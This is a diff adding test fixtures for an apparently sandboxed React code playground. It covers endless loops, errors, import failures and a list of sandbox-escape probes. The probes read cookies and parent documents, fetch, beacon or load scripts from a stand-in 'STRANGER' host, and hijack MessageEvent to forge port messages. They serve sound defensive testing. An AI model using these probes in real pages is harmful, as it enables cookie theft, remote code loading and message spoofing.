@@ -1,0 +1,308 @@
+/*
+ * What readers may write into the editor, and what has to come of it; for every browser.
+ */
+
+/** A demo with something in its body, or before it. */
+export function demo({ body = '', before = '' }: { body?: string; before?: string }): string {
+  return `import React, { useEffect, useLayoutEffect, useState } from 'react';
+${before}
+export default function Demo() {
+  ${body}
+  return <button id="b">fine</button>;
+}
+`;
+}
+
+export interface Trial {
+  name: string;
+  text: string;
+  /** Kind of the first problem; none for a text that runs. */
+  problem?: string;
+  /** In the first problem's sentence. */
+  says?: string | RegExp;
+  /** Line of the first problem. */
+  line?: number;
+  /** What is pressed once it is shown. */
+  press?: boolean;
+}
+
+const ended = 'this did not come to an end, so it was stopped.';
+
+/** Code that would take the page with it. */
+export const endless: Trial[] = [
+  { name: 'while', text: demo({ body: 'while (true) {}' }), line: 4 },
+  { name: 'for', text: demo({ body: 'for (;;) {}' }), line: 4 },
+  { name: 'do', text: demo({ body: 'do {} while (true)' }), line: 4 },
+  { name: 'a loop without braces', text: demo({ body: 'let n = 0; while (true) n++;' }), line: 4 },
+  { name: 'a loop in a module', text: demo({ before: 'while (true) {}' }), line: 2 },
+  {
+    name: 'a loop in a nested function',
+    text: demo({ body: 'const f = () => { const g = () => { for (;;) {} }; g(); };\n  f();' }),
+    line: 4,
+  },
+  { name: 'an effect', text: demo({ body: 'useEffect(() => { while (true) {} }, []);' }), line: 4 },
+  {
+    name: 'a handler',
+    text: demo({}).replace('id="b"', 'id="b" onClick={() => { while (true) {} }}'),
+    line: 5,
+    press: true,
+  },
+  {
+    name: 'promises that never yield',
+    text: demo({ before: 'const f = () => Promise.resolve().then(f); f();' }),
+    line: 2,
+  },
+  {
+    name: 'an async loop',
+    text: demo({ before: '(async () => { while (true) await null; })();' }),
+    line: 2,
+  },
+  {
+    name: 'recursion that catches its overflow',
+    text: demo({ before: 'const f = () => { try { f(); } catch { f(); } };', body: 'f();' }),
+    line: 2,
+  },
+  {
+    name: 'a loop that catches what stops it',
+    text: demo({ body: 'while (true) { try { while (true) {} } catch {} }' }),
+    line: 4,
+  },
+].map((trial) => ({ ...trial, problem: 'endless', says: ended }));
+
+/** Code that ends by itself, or is ended by React. */
+export const ending: Trial[] = [
+  {
+    name: 'endless recursion',
+    text: demo({ body: 'const f = () => f();\n  f();' }),
+    problem: 'runtime',
+    says: /recursion|call stack/,
+    line: 4,
+  },
+  {
+    name: 'setState while rendering',
+    text: demo({ body: 'const [n, set] = useState(0); set(n + 1);' }),
+    problem: 'runtime',
+    says: 'Too many re-renders',
+  },
+  {
+    name: 'setState in every layout effect',
+    text: demo({ body: 'const [n, set] = useState(0); useLayoutEffect(() => set(n + 1));' }),
+    problem: 'runtime',
+    says: 'Maximum update depth exceeded',
+  },
+  { name: 'questions to the reader', text: demo({ body: 'alert(1); confirm("2"); prompt("3");' }) },
+];
+
+/** Ordinary mistakes. */
+export const mistakes: Trial[] = [
+  {
+    name: 'a text that cannot be compiled',
+    text: 'export default =',
+    problem: 'syntax',
+    says: 'tally.tsx:1:16: Unexpected token.',
+    line: 1,
+  },
+  {
+    name: 'a text that only the browser refuses',
+    text: demo({ body: 'let a = 1;\n  let a = 2;' }),
+    problem: 'syntax',
+    says: /declar/,
+    line: 5,
+  },
+  { name: 'an empty text', text: '', problem: 'runtime', says: 'has no default export' },
+  {
+    name: 'a component that throws',
+    text: demo({ body: '(undefined as any).x;' }),
+    problem: 'runtime',
+    says: /TypeError: .*undefined/,
+    line: 4,
+  },
+  {
+    name: 'a module that throws',
+    text: demo({ before: 'throw new Error("at once");' }),
+    problem: 'runtime',
+    says: 'Error: at once',
+    line: 2,
+  },
+  {
+    name: 'an effect that throws',
+    text: demo({ body: 'useEffect(() => { throw new Error("in an effect"); }, []);' }),
+    problem: 'runtime',
+    says: 'Error: in an effect',
+    line: 4,
+  },
+  {
+    name: 'a timer that throws',
+    text: demo({
+      body: 'useEffect(() => void setTimeout(() => { throw new Error("late"); }), []);',
+    }),
+    problem: 'runtime',
+    says: 'Error: late',
+    line: 4,
+  },
+  {
+    name: 'a handler that throws',
+    text: demo({}).replace('id="b"', 'id="b" onClick={() => { throw new Error("pressed"); }}'),
+    problem: 'runtime',
+    says: 'Error: pressed',
+    line: 5,
+    press: true,
+  },
+  {
+    name: 'a promise that is rejected',
+    text: demo({ before: 'Promise.reject(new Error("broken promise"));' }),
+    problem: 'runtime',
+    says: 'Error: broken promise',
+    line: 2,
+  },
+  {
+    name: 'something thrown that is no error',
+    text: demo({ before: 'throw { toString() { throw 1 }, get message() { throw 2 } };' }),
+    problem: 'runtime',
+    says: 'Thrown: ',
+  },
+  {
+    name: 'a package that is not there',
+    text: "import a from 'lodash';\nexport default a;",
+    problem: 'import',
+    says: 'tally.tsx:1:1: “lodash” cannot be imported here; what there is: react, react-dom, react-dom/client, tiny-hooks.',
+    line: 1,
+  },
+  {
+    name: 'a file that is not there',
+    text: "import a from './a';\nexport default a;",
+    problem: 'import',
+    says: '“./a” cannot be imported here',
+    line: 1,
+  },
+  {
+    name: 'a module name that is made while the code runs',
+    text: demo({ before: 'require("lod" + "ash");' }),
+    problem: 'import',
+    says: '“lodash” cannot be imported here',
+    line: 2,
+  },
+  {
+    name: 'no component',
+    text: 'export default 5;',
+    problem: 'runtime',
+    says: /Element type is invalid/,
+  },
+  { name: 'too much text', text: `//${'x'.repeat(70_000)}`, problem: 'too-large' },
+];
+
+/**
+ * What the code tries that it must not be able to; `STRANGER` is another host, `SITE` the site. Each
+ * entry is the body of an async function that returns when it has succeeded and throws otherwise.
+ */
+export const attacks: Record<string, string> = {
+  'the page’s document': 'return parent.document.title;',
+  'the page’s address': 'return parent.location.href;',
+  'the top page’s document': 'return top.document.title;',
+  'local storage': 'localStorage.setItem("a", "b");',
+  'session storage': 'return sessionStorage.length;',
+  'reading cookies': 'return document.cookie;',
+  'writing cookies': 'document.cookie = "a=b";',
+  databases:
+    'await new Promise((ok, no) => { const r = indexedDB.open("a"); r.onsuccess = ok; r.onerror = no; });',
+  caches: 'await caches.open("a");',
+  'navigating the page': 'top.location.href = "STRANGER/top";',
+  'navigating the page by a link':
+    'const a = document.createElement("a"); a.href = "STRANGER/link"; a.target = "_top"; document.body.append(a); a.click(); throw 0;',
+  'a popup': 'if (!open("STRANGER/popup")) throw 0;',
+  'a download':
+    'const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "x"; a.click(); throw 0;',
+  'fetching from another host': 'await fetch("STRANGER/fetch");',
+  'fetching from the site': 'await fetch("SITE/index.json");',
+  'fetching without an answer': 'await fetch("STRANGER/no-cors", { mode: "no-cors" });',
+  'an old request':
+    'await new Promise((ok, no) => { const r = new XMLHttpRequest(); r.open("GET", "STRANGER/xhr"); r.onload = ok; r.onerror = no; r.send(); });',
+  'a beacon':
+    'if (!navigator.sendBeacon("STRANGER/beacon")) throw 0; await new Promise((_, no) => setTimeout(no, 100));',
+  'a socket':
+    'await new Promise((ok, no) => { const s = new WebSocket("STRANGER/socket".replace("http", "ws")); s.onopen = ok; s.onerror = no; });',
+  events:
+    'await new Promise((ok, no) => { const s = new EventSource("STRANGER/events"); s.onopen = ok; s.onerror = no; });',
+  'a script of another host': 'await loaded("script", { src: "STRANGER/script.js" });',
+  'a script of the site': 'await loaded("script", { src: "SITE/~workbench/frame.html" });',
+  'a script that the parser writes':
+    'document.body.insertAdjacentHTML("beforeend", "<iframe srcdoc=\'<script src=STRANGER/parser.js></script>\'></iframe>"); throw 0;',
+  'a module of another host': 'await Function("return import(\'STRANGER/module.js\')")();',
+  'a style sheet': 'await loaded("link", { rel: "stylesheet", href: "STRANGER/style.css" });',
+  'fetching beforehand': 'await loaded("link", { rel: "prefetch", href: "STRANGER/prefetch" });',
+  'an image of another host': 'await loaded("img", { src: "STRANGER/image.png" });',
+  'a font': 'await new FontFace("a", "url(STRANGER/font.woff2)").load();',
+  'a frame':
+    'const f = document.createElement("iframe"); f.src = "STRANGER/frame"; document.body.append(f); throw 0;',
+  'a form':
+    'const f = document.createElement("form"); f.action = "STRANGER/form"; document.body.append(f); f.submit(); throw 0;',
+  'an object': 'await loaded("object", { data: "STRANGER/object" });',
+  'a worker':
+    'new Worker(URL.createObjectURL(new Blob([""]))); await new Promise((_, no) => setTimeout(no, 100));',
+  'a service worker': 'await navigator.serviceWorker.register("SITE/x.js");',
+  'a call to another browser': 'new RTCPeerConnection();',
+  'code from text': 'return eval("1");',
+};
+
+/** Ways for the code to navigate its own frame. */
+export const departures = (stranger: string): Trial[] =>
+  [
+    `location.href = '${stranger}go';`,
+    `location.replace('${stranger}replace');`,
+    `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0; url=${stranger}refresh'; document.head.append(m);`,
+    `const a = document.createElement('a'); a.href = '${stranger}link'; document.body.append(a); a.click();`,
+  ].map((body) => ({ name: body, text: demo({ body: `useEffect(() => { ${body} }, []);` }) }));
+
+/** Tries them all at once, and writes to the console how each went. */
+export function attackText(options: {
+  site: string;
+  stranger: string;
+  /** @default all */
+  names?: string[];
+}): string {
+  const { site, stranger, names = Object.keys(attacks) } = options;
+  const tries = names.map(
+    (name) => `  [${JSON.stringify(name)}, async () => { ${attacks[name]} }],`,
+  );
+  return demo({
+    before: `const loaded = (tag: string, props: object) => new Promise((ok, no) => {
+  document.head.append(Object.assign(document.createElement(tag), props, { onload: ok, onerror: no }));
+});
+const tries: [string, () => unknown][] = [
+${tries.join('\n')}
+];`,
+    body: `useEffect(() => {
+    const attempts = tries.map(async ([name, attempt]) => {
+      // Some that are refused say nothing at all.
+      const silence = new Promise((_, no) => setTimeout(no, 500));
+      try { await Promise.race([attempt(), silence]); console.warn('open', name); }
+      catch { console.log('shut', name); }
+    });
+    void Promise.all(attempts).then(() => console.log('done'));
+  }, []);`,
+  })
+    .replaceAll('STRANGER/', stranger)
+    .replaceAll('SITE/', site);
+}
+
+/**
+ * Gets hold of the port, as any code could that replaces what the frame's own uses, and sends messages in
+ * the frame's name.
+ */
+export const forgery = (messages: string) =>
+  demo({
+    before: `const { get } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')!;
+let isDone = false;
+Object.defineProperty(MessageEvent.prototype, 'data', {
+  get(this: MessageEvent) {
+    const port = this.currentTarget as MessagePort;
+    const data = get!.call(this);
+    if (!isDone && data?.type === 'ping') {
+      isDone = true;
+      ${messages}
+      console.log('forged');
+    }
+    return data;
+  },
+});`,
+  });
